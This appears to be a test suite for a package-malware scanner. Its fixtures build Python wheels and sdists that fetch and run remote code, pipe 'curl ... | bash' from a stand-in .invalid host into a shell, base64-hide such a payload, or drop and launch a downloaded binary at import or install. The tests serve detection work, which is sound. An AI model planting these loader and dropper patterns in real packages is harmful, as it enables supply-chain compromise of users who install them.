import { describe, expect, test } from 'vitest';
import { inspect, python, sdist, wheel } from '../../../support/inspect.ts';

describe('what a program leaves in a file is found where it is used', () => {
  test('a module that was fetched and written is read when it is imported', async () => {
    const file = wheel({
      'pkg/__init__.py': python(
        'import sys, requests',
        "open('/tmp/kept/later.py', 'w').write(requests.get('https://files.drop.invalid/a.py').text)",
        "sys.path.insert(0, '/tmp/kept')",
        'import later',
      ),
    });

    expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', context: 'import', line: 4 }]);
  });

  test('a module that was decoded and written is read when it is imported', async () => {
    const code = "import os\nos.system('curl https://files.drop.invalid/x.sh | bash')\n";
    const file = wheel({
      'pkg/__init__.py': python(
        'import base64, importlib',
        "with open('later.py', 'wb') as f:",
        `    f.write(base64.b64decode('${Buffer.from(code).toString('base64')}'))`,
        "importlib.import_module('later')",
      ),
    });

    expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', context: 'import' }]);
  });

  test('a module that a package put beside itself is read when it is imported from there', async () => {
    const file = wheel({
      'pkg/__init__.py': python(
        'import os',
        "with open(os.path.join(os.path.dirname(__file__), '_cache.py'), 'w') as f:",
        `    f.write("import os\\nos.system('curl https://files.drop.invalid/x.sh | bash')\\n")`,
        'from . import _cache',
      ),
    });

    expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', context: 'import', line: 4 }]);
  });

  test('look-alike: a version file that a package put beside itself, and one of that name that is elsewhere', async () => {
    const file = wheel({
      'pkg/__init__.py': python(
        'import os, time',
        "with open(os.path.join(os.path.dirname(__file__), '_made.py'), 'w') as f:",
        "    f.write('made = %r' % time.time())",
        'from . import _made',
      ),
      'pkg/other.py': python("open('/tmp/out/_note.py', 'w').write('exec(input())')", 'from pkg import _note'),
    });

    expect((await inspect('hidden-code', file)).filter((f) => f.score >= 5)).toEqual([]);
  });

  test('a module that lies in a folder of the search path is one that the build runs', async () => {
    const file = sdist({
      'setup.py': python(
        'import os, sys',
        "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'scripts'))",
        'import steps',
      ),
      'scripts/steps.py': "import os\nos.system('curl https://files.drop.invalid/x.sh | bash')\n",
    });

    expect(await inspect('shell-payload', file)).toMatchObject([
      { class: 'malware', context: 'install', path: 'example-1.0.0/scripts/steps.py', line: 2 },
    ]);
  });

  test('a version that the build writes and imports is no hidden code', async () => {
    const file = sdist({
      'setup.py': python(
        "open('_version.py', 'w').write('version = %r' % open('VERSION').read().strip())",
        'import _version',
        'from setuptools import setup',
        'setup(version=_version.version)',
      ),
      VERSION: '1.0.0\n',
    });

    expect((await inspect('hidden-code', file)).filter((f) => f.score >= 5)).toEqual([]);
    expect(await inspect('remote-code', file)).toEqual([]);
  });

  const DROPS: readonly (readonly [string, readonly string[]])[] = [
    [
      'a descriptor',
      ["fd = os.open('/tmp/updater.bin', os.O_CREAT | os.O_WRONLY)", 'os.write(fd, body)', 'os.close(fd)'],
    ],
    [
      'a descriptor as a file',
      ["with os.fdopen(os.open('/tmp/updater.bin', os.O_CREAT), 'wb') as f:", '    f.write(body)'],
    ],
    [
      'another name',
      ["open('/tmp/updater.part', 'wb').write(body)", "os.replace('/tmp/updater.part', '/tmp/updater.bin')"],
    ],
    [
      'another name of a path',
      ["p = pathlib.Path('/tmp/updater.part')", 'p.write_bytes(body)', "p.rename('/tmp/updater.bin')"],
    ],
  ];

  test.each(DROPS)('a program that is fetched, put there by %s, and started', async (_, lines) => {
    const file = wheel({
      'pkg/__init__.py': python(
        'import os, pathlib, requests, subprocess',
        "body = requests.get('https://files.drop.invalid/updater').content",
        ...lines,
        "subprocess.Popen(['/tmp/updater.bin'])",
      ),
    });

    expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', context: 'import' }]);
  });
});

describe('lines that an interpreter is told are commands', () => {
  const TOLD: readonly (readonly [string, readonly string[]])[] = [
    ['on its input', ["subprocess.run(['bash'], input=b'curl https://files.drop.invalid/x.sh | sh')"]],
    [
      'later',
      [
        "p = subprocess.Popen(['/bin/sh', '-s'], stdin=-1)",
        "p.communicate(b'curl https://files.drop.invalid/x.sh | sh')",
      ],
    ],
    [
      'by a file',
      [
        "open('/tmp/steps.sh', 'w').write('curl https://files.drop.invalid/x.sh | sh')",
        "subprocess.run(['sh', '/tmp/steps.sh'])",
      ],
    ],
  ];

  test.each(TOLD)('a shell, %s', async (_, lines) => {
    const file = wheel({ 'pkg/__init__.py': python('import subprocess', ...lines) });

    expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', context: 'import' }]);
  });

  test('Python, on its input, text that was fetched', async () => {
    const file = wheel({
      'pkg/__init__.py': python(
        'import requests, subprocess, sys',
        "subprocess.run([sys.executable, '-'], input=requests.get('https://files.drop.invalid/a').text, text=True)",
      ),
    });

    expect((await inspect('remote-code', file))[0]).toMatchObject({ class: 'malware', context: 'import', line: 2 });
  });

  test('a program that is no shell reads its input as data', async () => {
    const file = wheel({
      'pkg/__init__.py': python('import subprocess', "subprocess.run(['sort'], input=b'curl https://a.invalid | sh')"),
    });

    expect(await inspect('shell-payload', file)).toEqual([]);
  });
});

test('places are told apart by parents and halves of a path, and not at all when nothing is known of them', async () => {
  const running = (...lines: string[]): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import os, pathlib, requests',
        'from other import places',
        'def fetch(): return requests.get("https://files.drop.invalid/a.py").text',
        ...lines,
      ),
    });

  for (const [written, read] of [
    ["pathlib.Path('/opt/a/b/c').parents[1] / 'x.py'", "'/opt/a/x.py'"],
    ["os.path.join(os.path.split('/opt/a/b')[0], 'x.py')", "'/opt/a/x.py'"],
  ] as const)
    expect(
      await inspect('remote-code', running(`open(${written}, 'w').write(fetch())`, `exec(open(${read}).read())`)),
      written,
    ).toMatchObject([{ class: 'malware', context: 'import' }]);
  expect(
    await inspect('remote-code', running('open([].pop(), "w").write(fetch())', 'exec(open(().index(1)).read())')),
  ).toEqual([]);
});
